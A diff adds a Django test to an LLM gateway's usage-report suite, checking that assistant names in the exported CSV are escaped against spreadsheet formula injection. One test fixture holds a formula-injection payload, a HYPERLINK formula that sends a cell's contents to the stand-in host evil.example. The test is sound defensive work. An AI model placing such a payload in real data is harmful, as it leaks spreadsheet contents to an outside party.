@@ -155,3 +155,21 @@ def test_by_hour_the_page_shows_a_week_unless_asked(workspace, admin_user, clien
     since = today - timedelta(days=2)
     asked = client_for(admin_user).get(f"/gateway/acme/usage/?bucket=hour&since={since}").content.decode()
     assert f"{since:%-d %b %Y} – {today:%-d %b %Y}" in asked
+
+
+def test_names_in_the_csv_never_start_a_spreadsheet_formula(workspace, admin_user, member, client_for):
+    from assistants.models import Assistant
+
+    # A member names an assistant; an admin opens the usage CSV in a spreadsheet.
+    trap = Assistant.objects.create(workspace=workspace, name='=HYPERLINK("https://evil.example/?"&A1,"Open")')
+    request = {"model": "offline", "messages": [{"role": "user", "content": "hello"}]}
+    gateway.complete(workspace, request, user=member, assistant=trap)
+    from llmgateway.metering import records
+
+    records.drain()
+    page_csv = client_for(admin_user).get("/gateway/acme/usage.csv?by=assistant").content.decode()
+    out = io.StringIO()
+    call_command("usage_report", "acme", "--by", "assistant", "--format", "csv", stdout=out)
+    assert page_csv == out.getvalue()
+    labels = [row["label"] for row in csv.DictReader(io.StringIO(page_csv))]
+    assert labels == ["'" + trap.name]
